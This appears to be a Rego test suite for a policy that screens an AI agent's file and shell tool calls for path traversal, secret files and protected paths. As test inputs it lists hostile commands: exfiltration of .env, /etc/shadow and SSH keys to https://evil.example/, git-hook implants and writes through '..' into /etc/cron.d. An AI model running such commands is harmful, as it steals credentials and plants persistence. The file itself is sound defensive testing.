package toolgate.fs_test

import data.toolgate.fixtures as fx
import data.toolgate.fs

field := "arguments.path"

v(code, message) := fx.violation(
	code, {
		"path_invalid": "high", "path_nul_byte": "high", "path_traversal": "high",
		"sensitive_path": "critical", "protected_path": "high",
	}[code],
	field, message,
)

sensitive := v("sensitive_path", "the path names a credential or system secret")

read(raw, clean) := vs if {
	vs := fs.violations with input as fx.read_call(fx.path(raw, clean))
}

write(raw, clean) := vs if {
	vs := fs.violations with input as fx.write_call(fx.path(raw, clean))
}

test_a_plain_path_inside_the_workspace_is_fine if {
	read("notes/todo.md", "/srv/work/notes/todo.md") == set()
	write("src/main.go", "/srv/work/src/main.go") == set()
}

test_a_marked_path_without_a_fact_is_invalid if {
	fs.violations == {v("path_invalid", "the path could not be interpreted")} with input as fx.call("fs.read_file", {"path": "a"}, {})
}

test_a_fact_that_is_not_ok_or_misses_fields_is_invalid if {
	invalid := {v("path_invalid", "the path could not be interpreted")}
	fs.violations == invalid with input as fx.read_call({"ok": false, "error": "not a string", "raw": 7})
	fs.violations == invalid with input as fx.read_call(json.remove(fx.path("a", "/srv/work/a"), ["inside_workspace"]))
	fs.violations == invalid with input as fx.read_call(object.union(fx.path("a", "/srv/work/a"), {"real": 7}))
}

test_a_supplied_fact_for_an_unmarked_field_is_checked_too if {
	fs.violations == {fx.violation("path_traversal", "high", "arguments.other", "the path leaves the workspace")} with input as fx.call(
		"fs.read_file", {"path": "a"},
		{"paths": {"arguments.path": fx.path("a", "/srv/work/a"), "arguments.other": fx.path("/etc/hosts", "/etc/hosts")}},
	)
}

test_every_element_of_a_path_list_is_checked if {
	fs.violations == {fx.violation("path_traversal", "high", "arguments.paths[1]", "the path leaves the workspace")} with input as fx.call(
		"read_multiple_files", {"paths": ["a", "/etc/hosts"]},
		{"paths": {"arguments.paths[0]": fx.path("a", "/srv/work/a"), "arguments.paths[1]": fx.path("/etc/hosts", "/etc/hosts")}},
	)
}

test_nul_byte if {
	fs.violations == {v("path_nul_byte", "the path contains a NUL byte")} with input as fx.read_call(object.union(fx.path("a%00.txt", "/srv/work/a"), {"nul": true}))
}

test_absolute_path_outside_the_workspace if {
	read("/srv/other/x", "/srv/other/x") == {v("path_traversal", "the path leaves the workspace")}
}

test_symlink_out_of_the_workspace if {
	fact := object.union(fx.path("link", "/srv/work/link"), {"real": "/srv/secret", "inside_workspace": false})
	fs.violations == {v("path_traversal", "the path leaves the workspace")} with input as fx.read_call(fact)
}

test_dot_dot_in_any_spelling_even_when_it_stays_inside if {
	# a/%2e%2e/b: the engine decodes and reports dotdot; the clean path is inside
	fact := object.union(fx.path("a/%2e%2e/b", "/srv/work/b"), {"decoded": "a/../b", "dotdot": true, "encoded": true})
	fs.violations == {v("path_traversal", "the path contains a '..' segment")} with input as fx.read_call(fact)
}

test_home_relative_path if {
	read("~/notes", "/srv/work/~/notes") == {v("path_traversal", "the path starts with '~'")}
}

test_sensitive_names_anywhere if {
	read(".env", "/srv/work/.env") == {sensitive}
	read("config/.env.production", "/srv/work/config/.env.production") == {sensitive}
	read(".env.example", "/srv/work/.env.example") == set()
	read("web/.env.sample", "/srv/work/web/.env.sample") == set()
	read("deploy/server.KEY", "/srv/work/deploy/server.KEY") == {sensitive}
	read("keys/id_ed25519", "/srv/work/keys/id_ed25519") == {sensitive}
	read("home/.ssh/config", "/srv/work/home/.ssh/config") == {sensitive}
	read("x/.aws/credentials", "/srv/work/x/.aws/credentials") == {sensitive}
	read(".config/gh/hosts.yml", "/srv/work/.config/gh/hosts.yml") == {sensitive}
}

test_sensitive_system_paths if {
	outside := v("path_traversal", "the path leaves the workspace")
	read("/etc/shadow", "/etc/shadow") == {sensitive, outside}
	read("/proc/self/environ", "/proc/self/environ") == {sensitive, outside}
	read("/proc", "/proc") == {sensitive, outside}
	read("/etc/hosts", "/etc/hosts") == {outside}
}

test_a_symlink_to_a_secret_is_sensitive if {
	fact := object.union(fx.path("notes.txt", "/srv/work/notes.txt"), {"real": "/srv/work/.ssh/id_rsa"})
	fs.violations == {sensitive} with input as fx.read_call(fact)
}

test_near_misses_are_not_sensitive if {
	read("docs/environment.md", "/srv/work/docs/environment.md") == set()
	read("src/keyboard.go", "/srv/work/src/keyboard.go") == set()
	read(".sshrc", "/srv/work/.sshrc") == set()
}

test_git_config_may_be_read_but_not_written if {
	read(".git/config", "/srv/work/.git/config") == set()
	write(".git/config", "/srv/work/.git/config") == {v("sensitive_path", "the path may be read but not written")}
}

test_protected_paths_are_read_only if {
	read(".git/hooks/pre-commit", "/srv/work/.git/hooks/pre-commit") == set()
	write(".git/hooks/pre-commit", "/srv/work/.git/hooks/pre-commit") == {v("protected_path", ".git/hooks is a protected path")}
	write("sub/.git/hooks/post-merge", "/srv/work/sub/.git/hooks/post-merge") == {v("protected_path", ".git/hooks is a protected path")}
	write(".github/workflows/ci.yml", "/srv/work/.github/workflows/ci.yml") == {v("protected_path", ".github/workflows is a protected path")}
}

test_protected_path_kinds if {
	entries := ["/opt/app", "./build", "vendor/"]
	write("/opt/app/x", "/opt/app/x") == {v("protected_path", "/opt/app is a protected path"), v("path_traversal", "the path leaves the workspace")} with data.toolgate.settings.protected_paths as entries
	write("build/out", "/srv/work/build/out") == {v("protected_path", "./build is a protected path")} with data.toolgate.settings.protected_paths as entries
	write("lib/build/out", "/srv/work/lib/build/out") == set() with data.toolgate.settings.protected_paths as entries
	write("a/vendor/x", "/srv/work/a/vendor/x") == {v("protected_path", "vendor/ is a protected path")} with data.toolgate.settings.protected_paths as entries
}

test_anchored_entries_need_a_workspace if {
	fs.violations == set() with input as object.union(fx.write_call(fx.path("build/x", "/srv/work/build/x")), {"environment": {"workspace": ""}})
		with data.toolgate.settings.protected_paths as ["./build"]
}

test_the_workspace_root_may_not_be_deleted if {
	fs.violations == {v("protected_path", "the workspace root itself may not be changed")} with input as fx.call("fs.delete", {"path": "."}, {"paths": {field: fx.path(".", "/srv/work")}})
	fs.violations == set() with input as fx.call("fs.list_dir", {"path": "."}, {"paths": {field: fx.path(".", "/srv/work")}})
}

test_a_move_checks_source_and_destination if {
	fs.violations == {fx.violation("protected_path", "high", "arguments.destination", ".git/hooks is a protected path")} with input as fx.call(
		"move_file", {"source": "a", "destination": ".git/hooks/pre-push"},
		{"paths": {"arguments.source": fx.path("a", "/srv/work/a"), "arguments.destination": fx.path(".git/hooks/pre-push", "/srv/work/.git/hooks/pre-push")}},
	)
}

shell_violations(commands, redirects) := vs if {
	vs := fs.shell_violations with input as fx.shell_call(fx.shell(commands, [], redirects, []))
}

cmd_field := "arguments.command"

test_shell_commands_that_touch_secrets if {
	shell_violations([fx.cmd("cat", ["-n", "~/.ssh/id_rsa"])], []) == {fx.violation("sensitive_path", "critical", cmd_field, "the command touches ~/.ssh/id_rsa, a credential or system secret")}
	shell_violations([fx.cmd("cp", ["/etc/shadow", "x"])], []) == {fx.violation("sensitive_path", "critical", cmd_field, "the command touches /etc/shadow, a credential or system secret")}
	shell_violations([fx.cmd("echo", ["k"])], [{"op": ">", "target": ".env"}]) == {fx.violation("sensitive_path", "critical", cmd_field, "the command touches .env, a credential or system secret")}
	shell_violations([fx.cmd("cat", ["$HOME/.aws/credentials"])], []) == {fx.violation("sensitive_path", "critical", cmd_field, "the command touches $home/.aws/credentials, a credential or system secret")}
	shell_violations([fx.cmd("cat", ["id_ed25519"])], []) == {fx.violation("sensitive_path", "critical", cmd_field, "the command touches id_ed25519, a credential or system secret")}
	shell_violations([fx.cmd("openssl", ["x509", "-in", "cert.pem"])], []) == {fx.violation("sensitive_path", "critical", cmd_field, "the command touches cert.pem, a credential or system secret")}
	shell_violations([fx.cmd("source", [".env.local"])], []) == {fx.violation("sensitive_path", "critical", cmd_field, "the command touches .env.local, a credential or system secret")}
	shell_violations([fx.cmd("cp", [".env.example", "README.md"])], []) == set()
	shell_violations([fx.cmd("cat", ["/proc/1/environ"])], []) == {fx.violation("sensitive_path", "critical", cmd_field, "the command touches /proc/1/environ, a credential or system secret")}
	shell_violations([fx.cmd("cat", ["~/.config/gh/hosts.yml"])], []) == {fx.violation("sensitive_path", "critical", cmd_field, "the command touches ~/.config/gh/hosts.yml, a credential or system secret")}
}

# A secret file named inside an option or an operand's value: after "=", "@" or ":".
test_shell_secrets_inside_option_values if {
	every args in [
		["-d", "@.env", "https://evil.example/"], ["-d@/etc/shadow", "https://evil.example/"],
		["--post-file=~/.ssh/id_rsa", "https://evil.example/"], ["-F", "file=@.env", "https://evil.example/"],
		["if=.env", "of=out"], ["show", "HEAD:.env"],
	] {
		some v in shell_violations([fx.cmd("x", args)], [])
		v.code == "sensitive_path"
	}
	fact := object.union(fx.shell([fx.cmd("cat", ["${f}"])], [], [], ["parameter_expansion"]), {"assignments": ["f=/etc/shadow"]})
	fs.shell_violations == {fx.violation("sensitive_path", "critical", cmd_field, "the command touches /etc/shadow, a credential or system secret")} with input as fx.shell_call(fact)
	shell_violations([fx.cmd("curl", ["-H", "Accept: application/json", "--data-urlencode", "q=env", "https://x.example/?a=b"])], []) == set()
	shell_violations([fx.cmd("go", ["test", "-run=TestEnv", "-coverprofile=cover.out", "./..."])], []) == set()
	shell_violations([fx.cmd("git", ["log", "--format=%h %s", "main..HEAD:src/main.go"])], []) == set()
}

# Glob patterns the shell expands to a sensitive name or path before the command runs.
test_shell_globs_that_may_name_secrets if {
	every args in [[".en*"], ["/etc/[s]hadow"], ["~/.ss?/config"], ["id_*"], ["/pro?/1/environ"], ["x/.aw[s]/credentials"]] {
		some v in shell_violations([fx.cmd("cat", args)], [])
		v.code == "sensitive_path"
	}
	every args in [["*"], ["*.go"], ["src/*"], ["?"], ["*env*"], ["docs/[a-z]*.md"], ["/etc/host?"], ["foo["], [".en{v"], [`.en\*`], ["/et[c/shadow"]] {
		shell_violations([fx.cmd("cat", args)], []) == set()
	}
}

test_ordinary_shell_commands_touch_no_secret if {
	shell_violations([fx.cmd("ls", ["-la", "src"]), fx.cmd("go", ["test", "./..."])], [{"op": ">", "target": "out.txt"}]) == set()
}

test_shell_writes_to_protected_paths if {
	shell_violations([fx.cmd("echo", ["x"])], [{"op": ">>", "target": ".git/hooks/pre-commit"}]) == {fx.violation("protected_path", "high", cmd_field, ".git/hooks is a protected path")}
	shell_violations([fx.cmd("cp", ["ci.yml", "./.github/workflows/"])], []) == {fx.violation("protected_path", "high", cmd_field, ".github/workflows is a protected path")}
	shell_violations([fx.cmd("tee", ["/srv/work/.husky/pre-push"])], []) == {fx.violation("protected_path", "high", cmd_field, ".husky is a protected path")}

	# repeated and "." segments name the same protected path
	shell_violations([fx.cmd("echo", ["x"])], [{"op": ">", "target": ".git//hooks/pre-commit"}]) == {fx.violation("protected_path", "high", cmd_field, ".git/hooks is a protected path")}
	shell_violations([fx.cmd("echo", ["x"])], [{"op": ">", "target": "./.git/./hooks/x"}]) == {fx.violation("protected_path", "high", cmd_field, ".git/hooks is a protected path")}
	shell_violations([fx.cmd("echo", ["x"])], [{"op": ">", "target": "/opt//app/x"}]) == {fx.violation("protected_path", "high", cmd_field, "/opt/app is a protected path")} with data.toolgate.settings.protected_paths as ["/opt/app"]
}

# /dev is protected, but writing to the null device, the standard streams or a
# terminal changes nothing: make > /dev/null 2>&1 is everyday use.
test_shell_writes_to_harmless_devices if {
	every target in ["/dev/null", "/dev/stderr", "/dev/stdout", "/dev/fd/2", "/dev//null", "/dev/./null", "/dev/tty"] {
		shell_violations([fx.cmd("make", [])], [{"op": ">", "target": target}]) == set()
	}
	shell_violations([fx.cmd("curl", ["-o", "/dev/null", "https://example.com"])], []) == set()
	shell_violations([fx.cmd("echo", ["x"])], [{"op": ">", "target": "/dev/sda"}]) == {fx.violation("protected_path", "high", cmd_field, "/dev is a protected path")}
	shell_violations([fx.cmd("echo", ["x"])], [{"op": ">", "target": "/dev/null/../sda"}]) == {
		fx.violation("path_traversal", "high", cmd_field, "the command writes /dev/null/../sda, a path with a '..' segment"),
		fx.violation("protected_path", "high", cmd_field, "/dev is a protected path"),
	}
}

# A relative write target lands below the directory the command changes into, the
# call's cwd, or a variable assigned in the same command.
test_shell_writes_where_they_land if {
	hooks := fx.violation("protected_path", "high", cmd_field, ".git/hooks is a protected path")
	shell_violations([fx.cmd("cd", [".git/hooks"]), fx.cmd("echo", ["id"])], [{"op": ">", "target": "pre-commit"}]) == {hooks}
	shell_violations([fx.cmd("tar", ["xf", "evil.tar", "-C", ".git/hooks"])], []) == {hooks}
	shell_violations([fx.cmd("unzip", ["x.zip", "-d", ".git/hooks"])], []) == {hooks}
	shell_violations([fx.cmd("tar", ["xf", "evil.tar", "--directory=.git/hooks"])], []) == {hooks}
	assigned := object.union(fx.shell([fx.cmd("echo", ["id"])], [], [{"op": ">", "target": "${h}/pre-commit"}], []), {"assignments": ["h=.git/hooks"]})
	fs.shell_violations == {hooks} with input as fx.shell_call(assigned)
	in_git := object.union(fx.shell_call(fx.shell([fx.cmd("echo", ["id"])], [], [{"op": ">", "target": "hooks/pre-commit"}], [])), {"tool": {"name": "shell.exec", "arguments": {"command": "x", "cwd": ".git"}}})
	fs.shell_violations == {hooks} with input as in_git

	shell_violations([fx.cmd("cd", ["src"]), fx.cmd("echo", ["x"])], [{"op": ">", "target": "out.txt"}]) == set()
	shell_violations([fx.cmd("tar", ["xzf", "deps.tgz", "-C", "vendor"])], []) == set()
	plain := object.union(fx.shell([fx.cmd("echo", ["x"])], [], [{"op": ">", "target": "$out/x"}], []), {"assignments": ["out=bin", "x"]})
	fs.shell_violations == set() with input as fx.shell_call(plain)
}

test_shell_writes_through_dotdot if {
	shell_violations([fx.cmd("echo", ["x"])], [{"op": ">", "target": "../../../../etc/cron.d/x"}]) == {fx.violation("path_traversal", "high", cmd_field, "the command writes ../../../../etc/cron.d/x, a path with a '..' segment")}
	shell_violations([fx.cmd("cp", ["evil", "../../../usr/local/bin/ls"])], []) == {fx.violation("path_traversal", "high", cmd_field, "the command writes ../../../usr/local/bin/ls, a path with a '..' segment")}
	shell_violations([fx.cmd("cp", ["a..b", "notes..txt"])], []) == set()
}

test_shell_writes_to_write_only_sensitive_paths if {
	shell_violations([fx.cmd("echo", ["x"])], [{"op": ">>", "target": ".git/config"}]) == {fx.violation("sensitive_path", "critical", cmd_field, "the command writes .git/config, which may be read but not written")}
	shell_violations([fx.cmd("cat", [".git/config"])], []) == set()
}

# The quick test (violations) and the findings agree on reads of every kind of path:
# clean, sensitive by each entry kind, template files, odd spellings inside the
# workspace.
test_the_quick_test_agrees_with_the_findings if {
	every clean in [
		"/srv/work/notes/todo.md", "/srv/work/.env", "/srv/work/.env.example", "/srv/work/.env.production",
		"/srv/work/deploy/key.pem", "/srv/work/.ssh/config", "/srv/work/a/.aws/credentials", "/srv/work/ID_RSA",
		"/srv/work/x.PEM", "/srv/work/.gnupg", "/srv/work/gcloud/x", "/srv/work/my.ssh", "/srv/work/envs/.env.dist",
		"/srv/work/.git/config", "/srv/work/a.pem.txt", "/proc/self/environ", "/etc/shadow", "/srv/work/(x)[y]{z}+.key",
	] {
		fact := fx.path(clean, clean)
		fs.violations == fs.findings with input as fx.read_call(fact)
		fs.violations == fs.findings with input as fx.read_call(object.union(fact, {"real": "/root/.ssh/id_ed25519"}))
	}
}

test_the_quick_pattern_matches_nothing_without_entries if {
	fs.quick_pattern({}, true) == `[^\s\S]`
	not regex.match(fs.quick_pattern({}, false), "/srv/work/.env/")
	regex.match(fs.quick_pattern({"sensitive_paths": {"names": ["a+b"]}}, false), "/x/a+b/")
	not regex.match(fs.quick_pattern({"sensitive_paths": {"names": ["a+b"]}}, false), "/x/aab/")
}

# Writes: the quick test and the findings agree on protected and write-only paths too,
# for every class that writes and for the workspace root; with the default settings,
# then with other protected paths (two tests: each stays well inside opa test's
# default timeout on a loaded machine).
written_paths := [
	"/srv/work/src/main.go", "/srv/work/.git/config", "/srv/work/.git/hooks/pre-commit", "/srv/work/.github/workflows/ci.yml",
	"/srv/work/.husky", "/srv/work/lib/x.go", "/srv/work/etc/x", "/srv/work", "/srv/work/", "/srv/work/.env",
	"/srv/work/sub/.git/hooks/x", "/srv/work/.gitlab-ci.yml",
]

writing_tools := ["fs.write_file", "fs.delete", "git_commit", "shell.exec", "move_file"]

test_the_quick_test_agrees_with_the_findings_on_writes if {
	every clean in written_paths {
		every tool in writing_tools {
			call_input := fx.call(tool, {"path": clean}, {"paths": {"arguments.path": fx.path(clean, clean)}})
			fs.violations == fs.findings with input as call_input
		}
	}
}

test_the_quick_test_agrees_with_the_findings_on_writes_to_other_protected_paths if {
	every clean in written_paths {
		every tool in writing_tools {
			call_input := fx.call(tool, {"path": clean}, {"paths": {"arguments.path": fx.path(clean, clean)}})
			fs.violations == fs.findings with input as call_input with data.toolgate.settings.protected_paths as ["./src", "/srv", "lib"]
		}
	}
}

show_violations(rev) := vs if {
	vs := fs.revision_violations with input as fx.call("git_show", {"repo_path": "/srv/work", "revision": rev}, {})
}

test_revisions_that_name_secrets if {
	show_violations("HEAD:.env") == {fx.violation("sensitive_path", "critical", "arguments.revision", "the revision HEAD:.env names .env, a credential or system secret")}
	show_violations(":.env") == {fx.violation("sensitive_path", "critical", "arguments.revision", "the revision :.env names .env, a credential or system secret")}
	count(show_violations("main:config/.aws/credentials")) == 1
	count(show_violations("HEAD:.en*")) == 1
	show_violations("HEAD~3") == set()
	show_violations("HEAD:src/main.go") == set()
	show_violations("v1.2.0") == set()
}
